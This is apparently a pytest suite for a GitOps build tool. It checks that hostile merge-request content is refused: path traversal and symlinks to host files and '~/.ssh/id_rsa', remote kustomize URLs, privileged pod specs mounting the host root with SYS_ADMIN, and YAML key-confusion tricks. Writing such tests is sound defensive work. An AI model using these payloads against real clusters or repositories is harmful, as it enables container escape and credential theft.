"""A merge request is untrusted: every entry point of docs/threat-model.md, by rule.

Each test is a category (host path, traversal, symlink, `.git`, remote URL, unlisted
kind, quantity, NaN), parametrized over the entry points it applies to, and asserts the
exit code, the one line naming file and field, and that nothing was read, fetched or
written outside the rules. No image is built: `plan`, `reconcile --dry-run`, `jenkins
render` and `review` show every refusal.
"""

from __future__ import annotations

import base64
import http.server
import json
import re
import shutil
import subprocess
import threading
from collections.abc import Iterator
from importlib import resources
from pathlib import Path
from typing import Any, ClassVar

import pytest
import yaml

from heps.core.errors import ConfigError
from heps.core.settings import load
from heps.gitops.overlay import edit_overlay
from heps.images import fingerprint, recipes
from heps_hub import values as hub_values
from tests.conftest import (
    BUSYBOX,
    HOST_CA_BUNDLE,
    REPO_ROOT,
    Env,
    Result,
    read_json,
    simple_recipe,
    write_recipe,
)
from tests.pipeline.test_reconcile import add_object

HOST_FILE = "/etc/hostname"
OUTSIDE = "outside-secret.txt"


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The repository's overlays and settings, one recipe, and a host file beside the
    checkout (`../outside-secret.txt`) that nothing may read."""
    root = tmp_path / "repo"
    root.mkdir()
    shutil.copytree(REPO_ROOT / "k8s-overlays", root / "k8s-overlays")
    shutil.copy(REPO_ROOT / "heps.yaml", root / "heps.yaml")
    write_recipe(root, "app", simple_recipe("app"), Dockerfile="FROM busybox:1.36\n")
    (tmp_path / OUTSIDE).write_text("host secret\n")
    monkeypatch.setenv("HEPS_STATE_DIR", str(tmp_path / "state"))
    monkeypatch.setenv("HEPS_CA_BUNDLE", "")
    monkeypatch.setenv("HEPS_REGISTRY", "127.0.0.1:9")  # nothing answers: nothing pushed
    monkeypatch.chdir(root)
    return root


def one_line(result: Result, *fragments: str) -> str:
    """The refusal: exit 2, and a line holding every fragment."""
    assert result.code == 2, result.text
    lines = [line for line in result.err.splitlines() if all(f in line for f in fragments)]
    assert lines, result.text
    assert "Traceback" not in result.text
    return lines[0]


# --- repository paths: heps.yaml and recipe.yaml -------------------------------------

HOSTILE_PATHS = {
    "host-path": lambda repo: HOST_FILE,
    "traversal": lambda repo: f"../../../{OUTSIDE}",
    "symlink-out": lambda repo: _link(repo, "link-out", repo.parent / OUTSIDE),
    "dot-git": lambda repo: _git_config(repo),
}


def _link(repo: Path, name: str, target: Path) -> str:
    (repo / name).symlink_to(target)
    return f"../../{name}"


def _git_config(repo: Path) -> str:
    (repo / ".git").mkdir(exist_ok=True)
    (repo / ".git" / "config").write_text("[remote]\n url = https://token@example.org\n")
    return "../../.git/config"


def set_recipe(repo: Path, field: str, value: str) -> None:
    recipe = simple_recipe("app")
    section, key = field.split(".")
    recipe.setdefault(section, {})[key] = value
    write_recipe(repo, "app", recipe)


@pytest.mark.parametrize("case", sorted(HOSTILE_PATHS))
@pytest.mark.parametrize("field", ["build.context", "build.dockerfile", "smoke.structure"])
def test_recipe_paths_stay_in_the_repository(heps: Any, repo: Path, field: str, case: str) -> None:
    value = HOSTILE_PATHS[case](repo)
    set_recipe(repo, field, value)
    line = one_line(heps(repo, "plan"), "app-recipes/app/recipe.yaml", f"{field}: {value} ")
    assert "reaches into .git" in line if case == "dot-git" else ", outside " in line


def _settings_value(repo: Path, case: str) -> str:
    value = HOSTILE_PATHS[case](repo)
    return value.replace("../../", "", 1) if value.startswith("../../") else value


@pytest.mark.parametrize("case", sorted(HOSTILE_PATHS))
@pytest.mark.parametrize("field", ["recipes_dir", "gitops.overlays_dir", "build.ca_bundle"])
@pytest.mark.parametrize("operator_ca", [None, HOST_CA_BUNDLE])
def test_settings_paths_stay_in_the_repository(
    heps: Any,
    repo: Path,
    monkeypatch: pytest.MonkeyPatch,
    field: str,
    case: str,
    operator_ca: str | None,
) -> None:
    """heps.yaml is repository content: it names no host file; the CA bundle it names is
    never read from outside (it would be copied into every build context). Checked with
    and without the operator's own bundle set."""
    value = _settings_value(repo, case)
    section, _, key = field.rpartition(".")
    text = f"{key}: {value}\n" if not section else f"{section}:\n  {key}: {value}\n"
    (repo / "heps.yaml").write_text(text)
    if operator_ca is None:
        monkeypatch.delenv("HEPS_CA_BUNDLE")
    else:
        monkeypatch.setenv("HEPS_CA_BUNDLE", operator_ca)
    one_line(heps(repo, "plan"), "heps.yaml", f"{field}: {value} ")


@pytest.mark.parametrize(
    ("content", "found"),
    [
        ("-----BEGIN PRIVATE KEY-----\nMIIB\n-----END PRIVATE KEY-----\n", "0 certificate"),
        ("registry-password: hunter2\n", "0 certificate"),
        ("# a comment hides nothing\n", "0 certificate"),
    ],
)
def test_ca_bundle_named_by_the_repository_is_certificates_only(
    heps: Any, repo: Path, monkeypatch: pytest.MonkeyPatch, content: str, found: str
) -> None:
    certificate = Path(HOST_CA_BUNDLE).read_text().split("-----END CERTIFICATE-----")[0]
    (repo / "site-ca.crt").write_text(certificate + "-----END CERTIFICATE-----\n" + content)
    (repo / "heps.yaml").write_text("build: {ca_bundle: site-ca.crt}\n")
    monkeypatch.delenv("HEPS_CA_BUNDLE")
    line = one_line(heps(repo, "plan"), "heps.yaml: build.ca_bundle", "not a PEM bundle")
    assert "1 certificate block(s)" in line


def test_operator_ca_bundle_may_live_outside(repo: Path) -> None:
    cfg = load(repo, env={"HEPS_CA_BUNDLE": HOST_CA_BUNDLE})
    assert cfg.build.ca_bundle == Path(HOST_CA_BUNDLE)
    with pytest.raises(ConfigError, match="HEPS_CA_BUNDLE: /etc/passwd is not a PEM bundle"):
        load(repo, env={"HEPS_CA_BUNDLE": "/etc/passwd"})


@pytest.mark.parametrize("remote", ["/srv/other.git", "file:///srv/other.git", "../up.git"])
def test_repository_names_no_local_gitops_remote(heps: Any, repo: Path, remote: str) -> None:
    (repo / "heps.yaml").write_text(f"gitops: {{remote: '{remote}'}}\n")
    one_line(heps(repo, "plan"), "heps.yaml", "gitops.remote")


def test_recipe_folder_symlinked_out_is_refused(heps: Any, repo: Path) -> None:
    outside = repo.parent / "elsewhere"
    outside.mkdir()
    (outside / "recipe.yaml").write_text("name: elsewhere\n")
    (repo / "app-recipes" / "elsewhere").symlink_to(outside)
    one_line(heps(repo, "plan"), "app-recipes/elsewhere/recipe.yaml", "recipe folder", "outside")


# --- numbers --------------------------------------------------------------------------

NUMBERS = {
    "profile.cpu": [".nan", ".inf", "-1", "0", "0.00001", "'1e-05'", "100000", "'4 cores'"],
    "profile.memory": [".nan", "'0'", "'-1Gi'", "'1Mi'", "'16 GB'", "'1Pi'", "true"],
    "profile.gpu": ["-1", "2.0", "65", ".inf"],
    "smoke.http.timeout": [".nan", ".inf", "-5", "0", "1e9"],
    "smoke.http.port": ["0", "70000", "80.5"],
}
NUMBERS["profile.cpu"] += ["'1e400'", "'1E30'", "10000000000000000000"]  # past every bound
NUMBERS["profile.memory"] += ["'9999999999999999999999999999999999999999999Ei'", "'1e400'"]


def _recipe_with(field: str, value: str) -> str:
    smoke = "smoke: {http: {port: 8888}}\n"
    profile = "profile: {display_name: App}\n"
    if field.startswith("smoke.http."):
        key = field.rsplit(".", 1)[1]
        first = "" if key == "port" else "port: 8888, "
        smoke = f"smoke: {{http: {{{first}{key}: {value}}}}}\n"
    else:
        profile = f"profile: {{display_name: App, {field.split('.')[1]}: {value}}}\n"
    return "name: app\nversion: 1.0.0\ndescription: d\n" + smoke + profile


@pytest.mark.parametrize(
    ("field", "value"), [(f, v) for f, values in NUMBERS.items() for v in values]
)
def test_numbers_are_finite_and_in_range(heps: Any, repo: Path, field: str, value: str) -> None:
    write_recipe(repo, "app", _recipe_with(field, value))
    one_line(heps(repo, "plan"), "app-recipes/app/recipe.yaml", field)


@pytest.mark.parametrize(
    ("cpu", "memory", "written"),
    [
        ("0.001", "'64Mi'", ("cpu_limit: 0.001", "mem_limit: 64Mi")),
        ("'500m'", "'1.5Gi'", ("cpu_limit: 0.5", "mem_limit: 1536Mi")),
        ("1e1", "'2e9'", ("cpu_limit: 10", "mem_limit: 1953125Ki")),
    ],
)
def test_quantities_are_written_back_in_a_form_the_hub_reads(
    repo: Path, cpu: str, memory: str, written: tuple[str, str]
) -> None:
    from heps.gitops.pin import profile_entry

    text = "name: app\nversion: 1.0.0\ndescription: d\nsmoke: {http: {port: 8888}}\n"
    write_recipe(
        repo, "app", text + f"profile: {{display_name: App, cpu: {cpu}, memory: {memory}}}\n"
    )
    (recipe,) = recipes.discover(load(repo))
    p = recipe.profile
    assert p is not None
    entry = profile_entry("app", "App", "", "r/heps/app:1", p.cpu, p.memory, 0, False, {})
    for fragment in written:
        assert fragment in entry.replace('"', "'")
    folder = repo / "hub"
    folder.mkdir()
    (folder / "profile-list.yaml").write_text("profile_list:\n" + entry)
    loaded = _hub_profiles(folder)
    assert loaded.refused == [] and [x["slug"] for x in loaded.profiles] == ["app"]


# KubeSpawner applies any attribute an override names to the user's pod: each of these
# is a category of a user session given the node (the hub offered them all before).
HOSTILE_OVERRIDES = {
    "privileged": "true",
    "allow_privilege_escalation": "true",
    "uid": "0",
    "extra_pod_config": "{hostNetwork: true, hostPID: true}",
    "volumes": "[{name: root, hostPath: {path: /}}]",
    "service_account": "hub",
    "extra_container_config": "{securityContext: {capabilities: {add: [SYS_ADMIN]}}}",
}


def test_hub_offers_no_profile_options(tmp_path: Path) -> None:
    """profile_options carry a kubespawner_override per choice: not offered at all."""
    (tmp_path / "profile-list.yaml").write_text(
        "profile_list:\n"
        "  - {slug: bad, kubespawner_override: {image: 'r/bad:1'}, profile_options: {x: "
        "{choices: {a: {kubespawner_override: {privileged: true}}}}}}\n"
        "  - {slug: good, kubespawner_override: {image: 'r/good:1'}}\n"
    )
    loaded = _hub_profiles(tmp_path)
    assert [p["slug"] for p in loaded.profiles] == ["good"]
    assert "bad: profile_options: not a profile setting" in loaded.refused[0]


@pytest.mark.parametrize("key", sorted(HOSTILE_OVERRIDES))
def test_overlay_profile_changes_no_pod_security(heps: Any, repo: Path, key: str) -> None:
    """The rule the hub applies at load refuses the overlay at reconcile."""
    profiles = repo / "k8s-overlays" / "overlays" / "testbed" / "profile-list.yaml"
    text = profiles.read_text()
    first = "      cpu_guarantee: 4\n"
    profiles.write_text(text.replace(first, f"{first}      {key}: {HOSTILE_OVERRIDES[key]}\n", 1))
    one_line(
        heps(repo, "reconcile", "--overlay", "testbed", "--dry-run"),
        "data.profile-list.yaml: profile_list[0]",
        f"kubespawner_override.{key}: not a setting a profile may change",
    )


def _hub_profiles(folder: Path) -> Any:
    (folder / "values.yaml").write_text(
        "hub: {public_url: http://x}\n"
        "oauth: {authorize_url: a, token_url: t, userdata_url: u, callback_url: c}\n"
        "spawner: {namespace: n, scheduler_name: s, user_init: {image: i}}\n"
    )
    return hub_values.load(folder)


@pytest.mark.parametrize(
    "override",
    [
        "cpu_limit: .nan",
        "cpu_limit: 1e-05",
        "mem_limit: '0'",
        "mem_limit: 16 GB",
        "cpu_guarantee: -1",
        "mem_guarantee: .inf",
        "extra_resource_limits: {nvidia.com/gpu: '-1'}",
        "cpu_limit: '1e400'",
        "mem_limit: '" + "1" * 70 + "'",
        *(f"{key}: {value}" for key, value in HOSTILE_OVERRIDES.items()),
        "extra_resource_limits: {nvidia.com/gpu: '1', hugepages-1Gi: 1Gi}",
        "node_selector: {node-role.kubernetes.io/control-plane: ''}",
        "image: 'r/x:1 --privileged'",
    ],
)
def test_hub_leaves_out_a_bad_profile_and_offers_the_rest(tmp_path: Path, override: str) -> None:
    (tmp_path / "profile-list.yaml").write_text(
        "profile_list:\n"
        f"  - {{slug: bad, kubespawner_override: {{image: 'r/bad:1', {override}}}}}\n"
        "  - {slug: good, kubespawner_override: {image: 'r/good:1', cpu_limit: 0.5}}\n"
    )
    loaded = _hub_profiles(tmp_path)
    assert [p["slug"] for p in loaded.profiles] == ["good"]
    assert len(loaded.refused) == 1 and "bad:" in loaded.refused[0]


@pytest.mark.parametrize("value", ["1e30", "'1e400'", "'1E30'"])
def test_reconcile_refuses_a_profile_past_any_bound(heps: Any, repo: Path, value: str) -> None:
    listed = repo / "k8s-overlays" / "overlays" / "testbed" / "profile-list.yaml"
    listed.write_text(re.sub(r"cpu_limit: \S+", f"cpu_limit: {value}", listed.read_text(), count=1))
    line = one_line(
        heps(repo, "reconcile", "--overlay", "testbed", "--dry-run"),
        "data.profile-list.yaml: profile_list[0]",
        "kubespawner_override.cpu_limit",
    )
    assert repr(value.strip("'")) in line


# --- the overlay's hub values (hub-values.yaml) -----------------------------------------

# A category each: a claim that is not the platform's user data, a key the hub does not
# read, a value of the wrong type or out of bounds.
HOSTILE_HUB_VALUES = {
    "foreign-claim": ("storage: {lustre_claim: hub-db}", "spawner.storage.lustre_claim"),
    "unknown-key": ("extra_volumes: [{name: root, hostPath: {path: /}}]", "spawner"),
    "bad-type": ("start_timeout: forever", "spawner.start_timeout"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_HUB_VALUES))
def test_overlay_hub_values_change_no_user_pod(heps: Any, repo: Path, case: str) -> None:
    """The rule the hub applies at load refuses the overlay's hub-values.yaml at reconcile."""
    setting, field = HOSTILE_HUB_VALUES[case]
    path = repo / "k8s-overlays" / "overlays" / "testbed" / "hub-values.yaml"
    path.write_text(path.read_text().replace("spawner:\n", f"spawner:\n  {setting}\n", 1))
    line = one_line(
        heps(repo, "reconcile", "--overlay", "testbed", "--dry-run"),
        "k8s-overlays/overlays/testbed/hub-values.yaml",
        f"{field}:",
    )
    assert "fix" in line


@pytest.mark.parametrize("case", sorted(HOSTILE_HUB_VALUES))
def test_hub_refuses_hostile_values_at_load(tmp_path: Path, case: str) -> None:
    setting, field = HOSTILE_HUB_VALUES[case]
    (tmp_path / "overlay.yaml").write_text(f"spawner:\n  {setting}\n")
    with pytest.raises(hub_values.ValuesError, match=re.escape(f"{field}:")):
        _hub_profiles(tmp_path)


def test_hub_does_not_start_on_hostile_values(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    from heps_hub import config

    _hub_profiles(tmp_path)
    (tmp_path / "overlay.yaml").write_text("spawner: {storage: {cvmfs_claim: hub-db}}\n")
    monkeypatch.setenv("HEPS_HUB_CONFIG_DIR", str(tmp_path))
    with pytest.raises(SystemExit) as stopped:
        config.configure_from_environment(object())
    assert stopped.value.code == 2
    lines = [r.getMessage() for r in caplog.records if r.name == "heps_hub"]
    assert len(lines) == 1 and "spawner.storage.cvmfs_claim: 'hub-db'" in lines[0]


def test_data_claims_are_the_platforms_user_storage() -> None:
    """The claims a user pod may mount are the ones base/storage defines, none the hub's."""
    storage = yaml.safe_load_all((REPO_ROOT / "k8s-overlays/base/storage/storage.yaml").read_text())
    claims = {d["metadata"]["name"] for d in storage if d["kind"] == "PersistentVolumeClaim"}
    assert claims == hub_values.DATA_CLAIMS
    hub = (REPO_ROOT / "k8s-overlays/base/hub/hub.yaml").read_text()
    assert "claimName: hub-db" in hub and "hub-db" not in claims


def test_bundled_hub_values_are_accepted(tmp_path: Path) -> None:
    shutil.copy(REPO_ROOT / "k8s-overlays/base/hub/values.yaml", tmp_path / "values.yaml")
    for overlay in ("testbed", "production"):
        source = REPO_ROOT / f"k8s-overlays/overlays/{overlay}/hub-values.yaml"
        shutil.copy(source, tmp_path / "overlay.yaml")
        assert hub_values.load(tmp_path).spawner.storage.lustre_claim == "lustre"


# --- build contexts -------------------------------------------------------------------


def test_context_never_ships_git_whatever_dockerignore_says(repo: Path) -> None:
    (repo / ".git").mkdir()
    (repo / ".git" / "config").write_text("[remote]\n url = https://token@example.org\n")
    (repo / "sub" / ".git").mkdir(parents=True)
    (repo / "sub" / ".git" / "HEAD").write_text("ref: x\n")
    (repo / ".dockerignore").write_text("!.git\n!**/.git\n")
    recipe = simple_recipe("app", build={"context": "../.."})
    write_recipe(repo, "app", recipe, Dockerfile="FROM busybox:1.36\nCOPY .git /g\n")
    (found,) = recipes.discover(load(repo))
    assert found.build is not None
    files = fingerprint.context_files(found, found.build)
    assert files and not [f for f in files if ".git" in Path(f).parts]


@pytest.mark.parametrize("target", [HOST_FILE, f"../../../{OUTSIDE}", "../.."])
def test_context_symlink_leaving_it_is_refused(heps: Any, repo: Path, target: str) -> None:
    (repo / "app-recipes" / "app" / "data").symlink_to(target)
    line = one_line(heps(repo, "plan"), "app-recipes/app/recipe.yaml: build.context")
    assert "is a symlink to" in line and "outside the build context" in line


# --- overlays: kustomize as Flux runs it ----------------------------------------------


class Counter(http.server.BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        Counter.hits.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: evil}\n")

    def log_message(self, *args: Any) -> None:
        return


@pytest.fixture
def web() -> Iterator[str]:
    """A server that counts requests: a render must make none."""
    Counter.hits = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Counter)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    assert Counter.hits == [], "a render fetched a URL"


KUSTOMIZE_FIELDS = {
    "resources": "resources: ['{v}']",
    "bases": "bases: ['{v}']",
    "components": "components: ['{v}']",
    "crds": "crds: ['{v}']",
    "configurations": "configurations: ['{v}']",
    "patches[0].path": "patches: [{{path: '{v}'}}]",
    "patchesJson6902[0].path": "patchesJson6902: [{{path: '{v}', target: {{kind: X, name: y}}}}]",
    "patchesStrategicMerge[0]": "patchesStrategicMerge: ['{v}']",
    "replacements[0].path": "replacements: [{{path: '{v}'}}]",
    "openapi.path": "openapi: {{path: '{v}'}}",
    "configMapGenerator[0].files[0]": "configMapGenerator: [{{name: x, files: ['k={v}']}}]",
    "configMapGenerator[0].envs[0]": "configMapGenerator: [{{name: x, envs: ['{v}']}}]",
    "secretGenerator[0].files[0]": "secretGenerator: [{{name: x, files: ['{v}']}}]",
}
KUSTOMIZE_VALUES = {
    "remote-url": ("{web}/evil.yaml", "remote reference"),
    "git-ref": ("github.com/evil/repo//deploy?ref=main", "remote reference"),
    "ssh": ("ssh://git@example.org/evil.git", "remote reference"),
    "absolute": ("/etc/hostname", "absolute path"),
    "home": ("~/.ssh/id_rsa", "absolute path"),
    "traversal": ("../../../../" + OUTSIDE, "leaves the repository"),
    "symlink-out": ("link-out.yaml", "leaves the repository"),
}


@pytest.mark.parametrize("case", sorted(KUSTOMIZE_VALUES))
@pytest.mark.parametrize("field", sorted(KUSTOMIZE_FIELDS))
def test_kustomization_entries_stay_local(
    heps: Any, repo: Path, web: str, field: str, case: str
) -> None:
    value, why = KUSTOMIZE_VALUES[case]
    value = value.format(web=web)
    testbed = repo / "k8s-overlays" / "overlays" / "testbed"
    (testbed / "link-out.yaml").symlink_to(repo.parent / OUTSIDE)
    (testbed / "kustomization.yaml").write_text(KUSTOMIZE_FIELDS[field].format(v=value) + "\n")
    line = one_line(
        heps(repo, "reconcile", "--overlay", "testbed", "--dry-run"),
        "k8s-overlays/overlays/testbed/kustomization.yaml",
        field.split("[")[0],
    )
    assert why in line
    assert "host secret" not in line


@pytest.mark.parametrize("key", ["helmCharts", "generators", "transformers", "validators"])
def test_kustomize_features_that_run_programs_are_refused(heps: Any, repo: Path, key: str) -> None:
    kustomization = repo / "k8s-overlays" / "overlays" / "testbed" / "kustomization.yaml"
    kustomization.write_text(kustomization.read_text() + f"{key}: [{{name: x}}]\n")
    one_line(heps(repo, "reconcile", "--overlay", "testbed", "--dry-run"), f"{key}: not allowed")


def test_base_symlinked_out_of_the_repository_is_refused(heps: Any, repo: Path) -> None:
    elsewhere = repo.parent / "base-elsewhere"
    shutil.copytree(repo / "k8s-overlays" / "base", elsewhere)
    shutil.rmtree(repo / "k8s-overlays" / "base")
    (repo / "k8s-overlays" / "base").symlink_to(elsewhere)
    one_line(
        heps(repo, "reconcile", "--overlay", "testbed", "--dry-run"),
        "resources[0]",
        "leaves the repository",
    )


# --- YAML that heps and the tool after it (kustomize, Go) would read differently ------

READER_FILES = {  # file, a field it has, what hides under it, the command that reads it
    "recipe.yaml": ("app-recipes/app/recipe.yaml", "smoke", "x", ("plan",)),
    "heps.yaml": ("heps.yaml", "recipes_dir", "elsewhere", ("plan",)),
    "kustomization.yaml": (
        "k8s-overlays/overlays/testbed/kustomization.yaml",
        "resources",
        "['{web}/cm.yaml']",
        ("reconcile", "--overlay", "testbed", "--dry-run"),
    ),
}
READER_CASES = {  # the appended text, what the refusal says
    "binary-key": ("!!binary {b64}: {value}", "tagged !!binary"),
    "local-tag-key": ("!k {field}: {value}", "tagged !k"),
    "alias-key": ("x-name: &k {field}\n*k : {value}", "an alias as a key"),
    "collection-key": ("? [{field}]\n: {value}", "a mapping or list as a key"),
    "boolean-key": ("yes: {value}", "a boolean to some YAML readers"),
    "integer-key": ("1: {value}", "an integer to some YAML readers"),
    "set-value": ("x-set: !!set {{a: null}}", "tag !!set: not allowed"),
    "long-integer": ("x-big: " + "9" * 5000, "integer of 5000 characters"),
    # Go's yaml.v2 lets a later merge overwrite keys before it; YAML keeps them
    "late-merge-key": ("<<: {{{field}: {value}}}", "merge key '<<' after other keys"),
}


@pytest.mark.parametrize("case", sorted(READER_CASES))
@pytest.mark.parametrize("file", sorted(READER_FILES))
def test_keys_and_tags_read_alike_by_every_reader(
    heps: Any, repo: Path, web: str, file: str, case: str
) -> None:
    """A key Go reads as `resources` but Python as bytes (or a boolean, a number) would
    hide what heps checks from the tool that acts on it: refused with file and line, and
    kustomize never runs (the server counts no request)."""
    path, field, value, command = READER_FILES[file]
    text, why = READER_CASES[case]
    b64 = base64.b64encode(field.encode()).decode()
    hostile = text.format(b64=b64, field=field, value=value.format(web=web))
    before = (repo / path).read_text() if (repo / path).exists() else ""
    (repo / path).write_text(before.rstrip("\n") + "\n" + hostile + "\n")
    line = one_line(heps(repo, *command), f"{path}:", why)
    first = before.rstrip("\n").count("\n") + 2  # the hostile text's first line
    assert int(line.split(f"{path}:")[1].split(":")[0]) in range(first, first + 2), line


@pytest.mark.parametrize(
    "entry",
    [
        "Resources: ['{web}/cm.yaml']",
        "re\u017fources: ['{web}/cm.yaml']",  # Go folds the long s to s
        "patches: [{{Path: '{web}/p.yaml'}}]",
        "configMapGenerator: [{{name: x, FILES: ['{web}/f']}}]",
    ],
    ids=["capitalised", "long-s", "nested-path", "generator-files"],
)
def test_kustomization_fields_in_another_case_are_refused(
    heps: Any, repo: Path, web: str, entry: str
) -> None:
    """kustomize decodes a kustomization with Go's JSON, which matches field names in
    any case: `Resources:` is its `resources`, so heps reads it so too."""
    kustomization = repo / "k8s-overlays" / "overlays" / "testbed" / "kustomization.yaml"
    kustomization.write_text(entry.format(web=web) + "\n")
    line = one_line(
        heps(repo, "reconcile", "--overlay", "testbed", "--dry-run"),
        "k8s-overlays/overlays/testbed/kustomization.yaml",
        "kustomize reads it as",
    )
    assert "write it as '" in line


@pytest.mark.parametrize(
    ("name", "config"),
    [
        (
            "structure.yaml",
            "!!binary Y29udGFpbmVyUnVuT3B0aW9ucw==:\n  bindMounts: ['{out}:/out']\n",
        ),
        ("structure.json", '{{"ContainerRunOptions": {{"bindMounts": ["{out}:/out"]}}}}\n'),
    ],
    ids=["binary-key", "json-key-in-another-case"],
)
def test_structure_test_runs_the_config_heps_checked(
    heps: Any, env: Env, tmp_path: Path, name: str, config: str
) -> None:
    """container-structure-test (Go) reads a `!!binary` key as text, and JSON keys in any
    case: given the recipe's own file it would mount a host folder. It gets the config
    heps checked, written again as plain YAML, so neither reaches the host."""
    out = tmp_path / "host-folder"
    out.mkdir()
    recipe = simple_recipe("app")
    recipe["smoke"]["structure"] = name
    text = config.format(out=out)
    if name.endswith(".json"):
        test = {"name": "leak", "command": "sh", "args": ["-c", "echo x > /out/marker"]}
        body = json.loads(text) | {"schemaVersion": "2.0.0", "commandTests": [test]}
        text = json.dumps(body)
    else:
        text = "schemaVersion: 2.0.0\n" + text
        text += (
            "commandTests:\n  - {name: leak, command: sh, args: ['-c', 'echo x > /out/marker']}\n"
        )
    write_recipe(env.repo, "app", recipe, Dockerfile=f"FROM {BUSYBOX}\nRUN echo app > /hello\n")
    (env.repo / "app-recipes" / "app" / name).write_text(text)
    report = tmp_path / "run.json"
    result = heps(env.repo, "run", "--all", "--no-push", "--report", str(report))
    assert result.code == 1, result.text
    (entry,) = read_json(report)["recipes"]
    assert entry["failed_stage"] == "smoke", entry
    assert not (out / "marker").exists(), "a structure test wrote to a host folder"


# --- overlays: Pod Security Standards on every pod spec -------------------------------

HOSTILE_POD = """
      hostPID: true
      hostNetwork: true
      volumes: [{name: root, hostPath: {path: /}}]
      containers:
        - name: x
          image: busybox
          securityContext: {privileged: true, capabilities: {add: [SYS_ADMIN]}}
          resources: {requests: {cpu: 1m, memory: 1Mi}, limits: {cpu: 1m, memory: 1Mi}}
"""
KINDS = {
    "ReplicationController": "apiVersion: v1\nkind: ReplicationController\nmetadata: {name: e}\n"
    "spec:\n  selector: {a: b}\n  template:\n    metadata: {labels: {a: b}}\n    spec:",
    "ReplicaSet": "apiVersion: apps/v1\nkind: ReplicaSet\nmetadata: {name: e}\nspec:\n"
    "  selector: {matchLabels: {a: b}}\n  template:\n    metadata: {labels: {a: b}}\n    spec:",
    "Job": "apiVersion: batch/v1\nkind: Job\nmetadata: {name: e}\nspec:\n  template:\n    spec:",
    "CronJob": "apiVersion: batch/v1\nkind: CronJob\nmetadata: {name: e}\nspec:\n"
    "  schedule: '* * * * *'\n  jobTemplate:\n    spec:\n      template:\n        spec:",
    "custom-kind": "apiVersion: example.org/v1\nkind: Runner\nmetadata: {name: e}\nspec:\n"
    "  template:\n    spec:",
    "PodTemplate": "apiVersion: v1\nkind: PodTemplate\nmetadata: {name: e}\ntemplate:\n  spec:",
}


def _indent(pod: str, kind: str) -> str:
    depth = {"CronJob": 4}.get(kind, 0)
    return "\n".join((" " * depth + line) if line else line for line in pod.splitlines())


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_every_pod_spec_meets_restricted(heps: Any, repo: Path, kind: str) -> None:
    add_object(repo, KINDS[kind] + _indent(HOSTILE_POD, kind) + "\n")
    result = heps(repo, "reconcile", "--overlay", "testbed", "--dry-run")
    assert result.code == 2, result.text
    for rule in (
        "hostPID",
        "hostNetwork",
        "hostPath",
        "privileged",
        "capabilities",
        "runAsNonRoot",
    ):
        one_line(result, "k8s-overlays/base/extra.yaml", f"restricted: {rule})")
    one_line(result, "'busybox' runs whatever 'latest' is")


UNCONFINED = "container.apparmor.security.beta.kubernetes.io/x: unconfined"


def _annotated(kind: str) -> str:
    """KINDS[kind] with an AppArmor annotation in its pod template's own metadata."""
    head = KINDS[kind]
    if "metadata: {labels: {a: b}}" in head:
        return head.replace(
            "{labels: {a: b}}", f"{{labels: {{a: b}}, annotations: {{{UNCONFINED}}}}}"
        )
    before, _, spec = head.rpartition("\n")
    indent = spec[: len(spec) - len(spec.lstrip())]
    return f"{before}\n{indent}metadata: {{annotations: {{{UNCONFINED}}}}}\n{spec}"


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_every_pod_templates_metadata_is_checked(heps: Any, repo: Path, kind: str) -> None:
    """A pod's annotations sit beside its spec wherever the kind nests it (a PodTemplate's
    template, a CronJob's jobTemplate.spec.template): the line names that metadata."""
    add_object(repo, _annotated(kind) + _indent(HOSTILE_POD, kind) + "\n")
    line = one_line(
        heps(repo, "reconcile", "--overlay", "testbed", "--dry-run"), "restricted: appArmor)"
    )
    assert "template.metadata.annotations.container.apparmor" in line, line


@pytest.mark.parametrize(
    "annotation",
    ["privileged", "privileged: ok", "everything: because the vendor says so"],
)
def test_an_exception_needs_a_known_rule_and_a_reason(
    heps: Any, repo: Path, annotation: str
) -> None:
    head = KINDS["Job"].replace(
        "metadata: {name: e}",
        "metadata:\n  name: e\n  annotations:\n"
        f"    heps.ihep.ac.cn/policy-exception: '{annotation}'",
    )
    add_object(repo, head + HOSTILE_POD)
    one_line(
        heps(repo, "reconcile", "--overlay", "testbed", "--dry-run"),
        "metadata.annotations.heps.ihep.ac.cn/policy-exception",
    )


def test_persistent_volume_on_a_host_folder_needs_an_exception(heps: Any, repo: Path) -> None:
    add_object(
        repo,
        "apiVersion: v1\nkind: PersistentVolume\nmetadata: {name: root}\nspec:\n"
        "  capacity: {storage: 1Gi}\n  accessModes: [ReadWriteOnce]\n  hostPath: {path: /}\n",
    )
    one_line(
        heps(repo, "reconcile", "--overlay", "testbed", "--dry-run"),
        "PersistentVolume root: spec.hostPath",
        "restricted: hostPath",
    )


# --- writes: outputs and promotion ----------------------------------------------------


@pytest.mark.parametrize("out", ["../rendered", "link-out", "link-out/jobs", ".git/hooks"])
def test_jenkins_render_writes_only_inside_the_repository(heps: Any, repo: Path, out: str) -> None:
    shutil.copytree(REPO_ROOT / "jenkins", repo / "jenkins")
    (repo.parent / "target").mkdir()
    (repo / "link-out").symlink_to(repo.parent / "target")
    (repo / ".git" / "hooks").mkdir(parents=True)
    before = sorted(p.name for p in repo.parent.iterdir())
    one_line(heps(repo, "jenkins", "render", "--out", out), "--out")
    assert sorted(p.name for p in repo.parent.iterdir()) == before
    assert list((repo.parent / "target").iterdir()) == []
    assert list((repo / ".git" / "hooks").iterdir()) == []


def test_an_overlay_symlinked_to_another_is_refused(heps: Any, repo: Path) -> None:
    overlays = repo / "k8s-overlays" / "overlays"
    shutil.rmtree(overlays / "testbed")
    (overlays / "testbed").symlink_to("production")
    before = (overlays / "production" / "kustomization.yaml").read_text()
    one_line(heps(repo, "reconcile", "--dry-run", "--overlay", "testbed"), "testbed", "symlink")
    with pytest.raises(ConfigError, match="is a symlink to"):
        edit_overlay(repo, load(repo), "testbed", [], {})
    assert (overlays / "production" / "kustomization.yaml").read_text() == before


